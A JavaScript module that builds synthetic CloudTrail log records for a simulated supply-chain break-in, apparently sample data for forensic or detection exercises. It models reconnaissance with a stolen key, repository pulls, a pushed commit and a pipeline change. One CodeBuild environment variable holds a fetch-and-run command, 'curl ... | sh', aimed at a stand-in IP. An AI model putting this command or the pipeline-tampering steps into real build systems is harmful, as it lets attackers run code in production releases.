/** What is to be found in the sample case? One night, one stolen key, a release chain turned into a way in. */
import { ATTACKER, COMMIT, REPOSITORY, START, byThief, stolen } from './actors.mjs'
import { intoTheBuild } from './attack-build.mjs'
import { coverTracks, intoProduction } from './attack-production.mjs'
import { HOME, TOOLS, gitPush, record, uuid } from './records.mjs'

/** @returns {import('./records.mjs').CloudTrailRecord[]} */
export function attack() {
  return [...lookAround(), ...intoTheSource(), ...intoTheBuild(), ...intoProduction(), ...coverTracks()]
}

function lookAround() {
  const denied = (/** @type {number} */ after, /** @type {string} */ service, /** @type {string} */ action) =>
    byThief(after, action, {
      service,
      action,
      more: {
        errorCode: 'AccessDenied',
        errorMessage: `User: ${stolen.arn} is not authorized to perform: ${service}:${action} because no identity-based policy allows the ${service}:${action} action`,
      },
    })
  return [
    byThief(0, 'GetCallerIdentity', { service: 'sts', action: 'GetCallerIdentity' }),
    denied(9, 'iam', 'ListUsers'),
    denied(12, 'iam', 'ListRoles'),
    denied(15, 'iam', 'GetAccountAuthorizationDetails'),
    denied(21, 'organizations', 'DescribeOrganization'),
    denied(27, 'secretsmanager', 'ListSecrets'),
    denied(31, 's3', 'ListBuckets'),
    byThief(44, 'ListRepositories', { service: 'codecommit', action: 'ListRepositories' }),
    byThief(51, 'ListPipelines', { service: 'codepipeline', action: 'ListPipelines', request: {} }),
    byThief(58, 'GetPipeline', { service: 'codepipeline', action: 'GetPipeline', request: { name: 'payments-release' } }),
    byThief(66, 'BatchGetProjects', { service: 'codebuild', action: 'BatchGetProjects', request: { names: ['payments-build'] } }),
    record({
      at: START + 95, name: 'attack/login', who: { type: 'IAMUser', principalId: stolen.principalId, accountId: TOOLS, accessKeyId: '', userName: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
      service: 'signin', action: 'ConsoleLogin', ip: ATTACKER, agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0', readOnly: false, region: 'us-east-1',
      response: { ConsoleLogin: 'Failure' }, more: { errorMessage: 'Failed authentication', eventType: 'AwsConsoleSignIn', additionalEventData: { MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/' } },
    }),
  ] // prettier-ignore
}

function intoTheSource() {
  const pull = (
    /** @type {number} */ after,
    /** @type {number} */ step,
    /** @type {boolean} */ dataTransferred,
  ) =>
    byThief(after, `pull/${step}`, {
      service: 'codecommit',
      action: 'GitPull',
      agent: 'git/2.43.0',
      more: {
        requestID: uuid('attack/pull/request'),
        additionalEventData: {
          protocol: 'HTTP',
          dataTransferred,
          repositoryName: REPOSITORY,
          repositoryId: uuid(`repository/${REPOSITORY}`),
        },
      },
    })
  return [
    pull(160, 1, false),
    pull(161, 2, true),
    byThief(170, 'decrypt', { service: 'kms', action: 'Decrypt', ip: 'codecommit.amazonaws.com', agent: 'codecommit.amazonaws.com', request: { encryptionContext: { 'aws:codecommit:id': uuid(`repository/${REPOSITORY}`) } } }),
    ...gitPush({ at: START + 640, name: 'attack/push', who: stolen, ip: ATTACKER, agent: 'git/2.43.0', repository: REPOSITORY, ref: 'refs/heads/main', commit: COMMIT }),
    byThief(700, 'UpdatePipeline', {
      service: 'codepipeline', action: 'UpdatePipeline', readOnly: false,
      request: { pipeline: { name: 'payments-release', version: 14, stages: [{ name: 'Source' }, { name: 'Build' }, { name: 'Deploy' }] } },
      response: { pipeline: { name: 'payments-release', version: 15, stages: [{ name: 'Source' }, { name: 'Build' }, { name: 'Deploy' }] } },
    }),
    byThief(720, 'UpdateProject', {
      service: 'codebuild', action: 'UpdateProject', readOnly: false,
      request: { name: 'payments-build', environment: { type: 'LINUX_CONTAINER', privilegedMode: true, environmentVariables: [{ name: 'POST_BUILD', value: 'curl -s https://203.0.113.77/p.sh | sh', type: 'PLAINTEXT' }] } },
      response: { project: { name: 'payments-build', arn: `arn:aws:codebuild:${HOME}:${TOOLS}:project/payments-build` } },
    }),
    byThief(731, 'StartPipelineExecution', { service: 'codepipeline', action: 'StartPipelineExecution', readOnly: false, request: { name: 'payments-release' }, response: { pipelineExecutionId: uuid('attack/execution') } }),
  ] // prettier-ignore
}
